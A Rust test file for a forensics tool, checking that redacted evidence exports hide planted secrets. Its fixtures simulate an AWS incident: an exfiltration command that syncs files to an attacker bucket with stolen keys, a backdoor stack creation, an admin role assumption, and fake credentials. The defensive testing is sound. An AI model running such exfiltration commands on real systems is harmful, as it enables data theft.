//! `taskscope export --redact`: realistic evidence holding secrets (a task
//! definition with secret environment values, a Falco alert whose command
//! line carries AWS keys, CloudTrail records with a presigned URL, session
//! credentials and a database password, a log line with a bearer token),
//! imported next to the sample incident. No secret may reach a redacted
//! export in any format, with or without raw records; the context around
//! them must survive; the bundle must not change; and taskscope's own
//! stderr must not echo a secret quoted by an import error.

mod binary;

use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;
use taskscope::bundle::write::sha256_hex;
use taskscope::bundle::Bundle;
use taskscope::demo;
use tempfile::TempDir;

const T1: &str = demo::COMPROMISED_TASK;
const T1_ROLE_SESSION: &str =
    "arn:aws:sts::111122223333:assumed-role/checkout-api-task/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93";
const T1_APP_CONTAINER: &str = "3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93-1837765126";

const ENV_DB_PASSWORD: &str = "Pr0d-Db-S3cret-7741";
const ENV_WEBHOOK: &str = "https://hooks.example.com/services/T0EXAMPLE/B0EXAMPLE/XyZwebhook9931";
const STOLEN_KEY_ID: &str = "AKIAJ7Q2XAMPLEK3Y5ZW";
const STOLEN_SECRET_KEY: &str = "tD4gK9/vQ2mXb7Lr1sW8eYp3Zc6Nh0Ju5Fa2Ri9E";
const SESSION_KEY_ID: &str = "ASIAY34FZKBOKMUTVV7A";
const PRESIGN_SIGNATURE: &str = "5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7";
const MYSQL_PASSWORD: &str = "W1nter-Is-C0ming";
const JWT: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjaGVja291dCJ9.Qm9ndXNTaWduYXR1cmVFeGFtcGxl";
const LOG_DB_PASSWORD: &str = "Lz8-db-pass";
const NOTE_PASSWORD: &str = "N0te-S3cret";
/// A value no text rule recognizes: only the log path's masking hides it.
const UNRECOGNIZABLE: &str = "Zq8vN3mK5pL2xR7tW1yB9cD4fG6hJ0sA3eU5iO8u";

/// A session token as STS issues them (base64 starting `IQoJb3JpZ2lu`).
fn session_token() -> String {
    format!(
        "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ{}",
        "D8kXq3Vb7nLw2Rz5Ty9Pm4Hs6Jc1Gf0Ad+".repeat(8)
    )
}

/// The session token of the presigned URL (older `FwoGZXIvYXdz` form).
fn presign_token() -> String {
    format!(
        "FwoGZXIvYXdzEBYaDH{}",
        "kLm8Np2Qr4St6Uv8Wx0Yz1Ab3Cd5Ef7".repeat(5)
    )
}

fn secrets() -> Vec<String> {
    vec![
        ENV_DB_PASSWORD.into(),
        ENV_WEBHOOK.into(),
        STOLEN_SECRET_KEY.into(),
        session_token(),
        presign_token(),
        PRESIGN_SIGNATURE.into(),
        MYSQL_PASSWORD.into(),
        JWT.into(),
        LOG_DB_PASSWORD.into(),
        NOTE_PASSWORD.into(),
    ]
}

/// Context next to the secrets that a redacted export must keep.
const CONTEXT: [&str; 8] = [
    "DB_PASSWORD",
    "SLACK_WEBHOOK_URL",
    STOLEN_KEY_ID,
    SESSION_KEY_ID,
    "X-Amz-Credential",
    "Credential exfiltration via environment",
    "mysql -h orders-db -u admin -p[REDACTED] orders",
    "arn:aws:secretsmanager:us-east-1:111122223333:secret:checkout/db-password-Q7m2Xa",
];

/// The sample's `checkout-api:41` task definition with secret values in
/// its environment, as a second `describe-task-definition` output.
fn task_definition() -> String {
    let mut document: Value = serde_json::from_str(include_str!(
        "../src/demo/incident/ecs_describe_task_definition_41.json"
    ))
    .unwrap();
    let app = &mut document["taskDefinition"]["containerDefinitions"][0];
    let environment = app["environment"].as_array_mut().unwrap();
    environment.push(json!({"name": "DB_PASSWORD", "value": ENV_DB_PASSWORD}));
    environment.push(json!({"name": "SLACK_WEBHOOK_URL", "value": ENV_WEBHOOK}));
    serde_json::to_string_pretty(&document).unwrap()
}

fn falco_alert() -> String {
    let command = format!(
        "env AWS_ACCESS_KEY_ID={STOLEN_KEY_ID} AWS_SECRET_ACCESS_KEY={STOLEN_SECRET_KEY} \
         aws s3 sync /srv/exports s3://exfil-drop-203-0-113-66"
    );
    let alert = json!({
        "hostname": "ip-10-0-12-47.ec2.internal",
        "output": format!("14:05:12.004511230: Warning Credential exfiltration via environment \
                           (user=root command={command} container_id={T1_APP_CONTAINER} container_name=app)"),
        "priority": "Warning",
        "rule": "Credential exfiltration via environment",
        "source": "syscall",
        "tags": ["container", "mitre_credential_access"],
        "time": "2026-11-20T14:05:12.004511230Z",
        "output_fields": {
            "proc.cmdline": command,
            "proc.name": "env",
            "user.name": "root",
            "container.id": T1_APP_CONTAINER,
            "container.name": "app"
        }
    });
    format!("{alert}\n")
}

fn cloudtrail_record(time: &str, id: &str, source: &str, name: &str, extra: Value) -> Value {
    let mut record = json!({
        "eventVersion": "1.10",
        "userIdentity": {
            "type": "AssumedRole",
            "principalId": format!("AROAEXAMPLECHECKOUT:{T1}"),
            "arn": T1_ROLE_SESSION,
            "accountId": "111122223333",
            "accessKeyId": SESSION_KEY_ID
        },
        "eventTime": time,
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "10.0.12.47",
        "userAgent": "aws-cli/2.27.41",
        "requestID": format!("req-{id}"),
        "eventID": format!("7e1a0c55-0000-4000-8000-{id:0>12}"),
        "readOnly": false,
        "eventType": "AwsApiCall",
        "recipientAccountId": "111122223333"
    });
    if let (Some(record), Some(extra)) = (record.as_object_mut(), extra.as_object()) {
        record.extend(extra.clone());
    }
    record
}

fn cloudtrail_file() -> String {
    let presigned = format!(
        "https://cfn-templates-111122223333.s3.us-east-1.amazonaws.com/backdoor.yaml\
         ?X-Amz-Algorithm=AWS4-HMAC-SHA256\
         &X-Amz-Credential={SESSION_KEY_ID}%2F20261120%2Fus-east-1%2Fs3%2Faws4_request\
         &X-Amz-Date=20261120T140000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host\
         &X-Amz-Security-Token={}&X-Amz-Signature={PRESIGN_SIGNATURE}",
        presign_token()
    );
    let records = vec![
        cloudtrail_record(
            "2026-11-20T14:00:05Z",
            "1",
            "cloudformation.amazonaws.com",
            "CreateStack",
            json!({
                "requestParameters": {"stackName": "ops-helper", "templateURL": presigned},
                "responseElements": {"stackId": "arn:aws:cloudformation:us-east-1:111122223333:stack/ops-helper/1"}
            }),
        ),
        cloudtrail_record(
            "2026-11-20T14:00:30Z",
            "2",
            "sts.amazonaws.com",
            "AssumeRole",
            json!({
                "requestParameters": {"roleArn": "arn:aws:iam::111122223333:role/admin", "roleSessionName": "x"},
                "responseElements": {"credentials": {
                    "accessKeyId": SESSION_KEY_ID,
                    "sessionToken": session_token(),
                    "expiration": "Nov 20, 2026, 3:00:30 PM"
                }}
            }),
        ),
        cloudtrail_record(
            "2026-11-20T14:01:00Z",
            "3",
            "ecs.amazonaws.com",
            "ExecuteCommand",
            json!({
                "requestParameters": {
                    "cluster": "payments-prod", "container": "app", "interactive": true, "task": T1,
                    "command": format!("mysql -h orders-db -u admin -p{MYSQL_PASSWORD} orders")
                }
            }),
        ),
    ];
    json!({ "Records": records }).to_string()
}

fn log_events() -> String {
    json!({
        "events": [{
            "logStreamName": format!("ecs/app/{T1}"),
            "timestamp": 1_795_183_300_000_u64,
            "message": format!(
                "2026-11-20T14:01:40.000Z DEBUG upstream call headers={{Authorization: Bearer {JWT}}} \
                 db=postgres://orders:{LOG_DB_PASSWORD}@orders-db:5432/orders"
            ),
            "ingestionTime": 1_795_183_300_350_u64,
            "eventId": "40000000000000000000000000000000000000000000000000000001"
        }],
        "searchedLogStreams": []
    })
    .to_string()
}

/// A CloudTrail file whose one record cannot be read: the import error
/// quotes the unreadable `userIdentity` value.
fn unreadable_record() -> String {
    json!({"Records": [{
        "eventVersion": "1.10",
        "eventTime": "2026-11-20T14:02:00Z",
        "eventName": "GetObject",
        "userIdentity": UNRECOGNIZABLE
    }]})
    .to_string()
}

fn taskscope(args: &[&str]) -> Output {
    binary::command()
        .args(args)
        .env("TASKSCOPE_AUTHOR", "dana")
        .output()
        .expect("runs taskscope")
}

fn stdout(out: &Output) -> String {
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

/// The hostile files, in import order.
fn hostile_files() -> Vec<(&'static str, String)> {
    vec![
        ("a-task-definition-41.json", task_definition()),
        ("b-falco.ndjson", falco_alert()),
        ("c-cloudtrail.json", cloudtrail_file()),
        ("d-app-logs.json", log_events()),
    ]
}

struct Case {
    _dir: TempDir,
    bundle: PathBuf,
    import_stderr: String,
}

/// Writes the hostile files (first, so their copies of shared facts are the
/// ones events are read from) and the sample incident, and imports them.
fn imported(extra: &[(&str, String)]) -> Case {
    let dir = TempDir::new().unwrap();
    let hostile = dir.path().join("a-hostile");
    let sample = dir.path().join("b-sample");
    fs::create_dir_all(&hostile).unwrap();
    fs::create_dir_all(&sample).unwrap();
    for (name, content) in hostile_files().iter().chain(extra) {
        fs::write(hostile.join(name), content).unwrap();
    }
    for input in demo::inputs() {
        let input = input.unwrap();
        let name = Path::new(&input.source_path).file_name().unwrap();
        fs::write(sample.join(name), &input.bytes).unwrap();
    }
    let bundle = dir.path().join("bundle");
    let out = taskscope(&[
        "import",
        hostile.to_str().unwrap(),
        sample.to_str().unwrap(),
        "--out",
        bundle.to_str().unwrap(),
    ]);
    let import_stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        matches!(out.status.code(), Some(0 | 3)),
        "import failed: {import_stderr}"
    );
    let b = bundle.to_str().unwrap();
    let annotate = taskscope(&[
        "annotate",
        b,
        "--task",
        T1,
        "--note",
        &format!("found creds on the box: password={NOTE_PASSWORD} (rotated)"),
    ]);
    stdout(&annotate);
    Case {
        _dir: dir,
        bundle,
        import_stderr,
    }
}

/// Every export the command line offers: each format, with and without raw
/// records, for the compromised task and (where allowed) for every event.
fn all_exports(bundle: &Path, extra: &[&str]) -> Vec<(String, String)> {
    let b = bundle.to_str().unwrap();
    let mut exports = Vec::new();
    for format in ["md", "csv", "json", "timesketch"] {
        for raw in [false, true] {
            let mut scopes = vec![vec!["--task", T1]];
            if format != "md" {
                scopes.push(vec!["--all"]);
            }
            for scope in scopes {
                let mut args = vec!["export", b, "--format", format];
                args.extend(&scope);
                if raw {
                    args.push("--raw");
                }
                args.extend(extra);
                let label = args[2..].join(" ");
                exports.push((label, stdout(&taskscope(&args))));
            }
        }
    }
    exports
}

/// Every file under `root` with its bytes.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                files.insert(path.clone(), fs::read(&path).unwrap());
            }
        }
    }
    files
}

#[test]
fn without_redact_the_secrets_do_reach_the_exports() {
    // The control: these inputs really put every secret into some export,
    // so the redacted exports below are clean because of --redact.
    let case = imported(&[]);
    let exports = all_exports(&case.bundle, &[]);
    for secret in secrets() {
        assert!(
            exports.iter().any(|(_, text)| text.contains(&secret)),
            "{secret} is in no plain export"
        );
    }
    // And some even without --raw: in summaries and notes.
    let plain_md = &exports[0].1;
    assert!(plain_md.contains(STOLEN_SECRET_KEY) && plain_md.contains(MYSQL_PASSWORD));
    assert!(plain_md.contains(NOTE_PASSWORD));
}

#[test]
fn redacted_exports_hold_no_secret_and_keep_the_context() {
    let case = imported(&[]);
    let exports = all_exports(&case.bundle, &["--redact"]);
    assert_eq!(exports.len(), 14);
    for (label, text) in &exports {
        for secret in secrets() {
            assert!(!text.contains(&secret), "{label}: {secret} leaked");
        }
        assert!(text.contains("[REDACTED]"), "{label}: nothing redacted");
        assert!(text.contains(STOLEN_KEY_ID), "{label}: key ID lost");
        assert!(text.contains("Credential exfiltration via environment"));
    }
    // The raw exports keep the names and IDs around the secrets.
    let raw_json = &exports
        .iter()
        .find(|(label, _)| label == "--format json --all --raw --redact")
        .unwrap()
        .1;
    for kept in CONTEXT {
        assert!(raw_json.contains(kept), "{kept} lost");
    }
    let rows: Vec<Value> = serde_json::from_str(raw_json).unwrap();
    let definition = rows
        .iter()
        .find(|row| {
            row["artifact"]
                .as_str()
                .is_some_and(|a| a.contains("a-task-definition-41"))
        })
        .expect("the task definition is exported");
    let environment = &definition["raw"]["containerDefinitions"][0]["environment"];
    let variables = environment.as_array().unwrap();
    assert!(variables.len() >= 7, "{environment}");
    for variable in variables {
        assert!(variable["name"].as_str().is_some_and(|n| !n.is_empty()));
        assert_eq!(variable["value"], "[REDACTED]", "{variable}");
    }
    // The report says it is redacted.
    let report = &exports[0].1;
    assert!(report.contains("replaced with `[REDACTED]`"));
}

#[test]
fn redacting_changes_nothing_in_the_bundle() {
    let case = imported(&[]);
    let before = snapshot(&case.bundle);
    let exported = all_exports(&case.bundle, &["--redact"]);
    assert!(!exported.is_empty());
    assert_eq!(snapshot(&case.bundle), before, "the bundle changed");
    let verified = taskscope(&["verify", case.bundle.to_str().unwrap()]);
    assert_eq!(verified.status.code(), Some(0), "{verified:?}");
    // The manifest holds the hashes of the original, unredacted inputs.
    let bundle = Bundle::open(&case.bundle).unwrap();
    for (name, content) in hostile_files() {
        let input = bundle
            .manifest
            .inputs
            .iter()
            .find(|input| input.source_path.ends_with(name))
            .unwrap();
        let artifact = bundle.manifest.artifact(&input.artifact).unwrap();
        assert_eq!(artifact.sha256, sha256_hex(content.as_bytes()), "{name}");
        assert_eq!(
            bundle.read_artifact(&input.artifact).unwrap(),
            content.as_bytes()
        );
    }
}

#[test]
fn stderr_never_echoes_a_quoted_secret() {
    let case = imported(&[("e-unreadable.json", unreadable_record())]);
    // The import error quoted the value (the manifest keeps it, as evidence
    // of what was wrong) ...
    let bundle = Bundle::open(&case.bundle).unwrap();
    let errors: Vec<&String> = bundle
        .manifest
        .inputs
        .iter()
        .flat_map(|input| &input.errors)
        .collect();
    assert!(
        errors.iter().any(|e| e.contains(UNRECOGNIZABLE)),
        "{errors:?}"
    );
    // ... but stderr shows the error without it.
    assert!(case.import_stderr.contains("e-unreadable.json"));
    assert!(
        case.import_stderr
            .contains("invalid type: string \"[REDACTED]\""),
        "{}",
        case.import_stderr
    );
    for secret in secrets().iter().map(String::as_str).chain([UNRECOGNIZABLE]) {
        assert!(!case.import_stderr.contains(secret), "{secret} on stderr");
    }
    // Errors that quote what the user typed go through the same rules.
    let out = taskscope(&[
        "timeline",
        case.bundle.to_str().unwrap(),
        "--task",
        &format!("token={NOTE_PASSWORD}"),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr.contains("no task token=[REDACTED]"), "{stderr}");
    assert!(!stderr.contains(NOTE_PASSWORD));
}
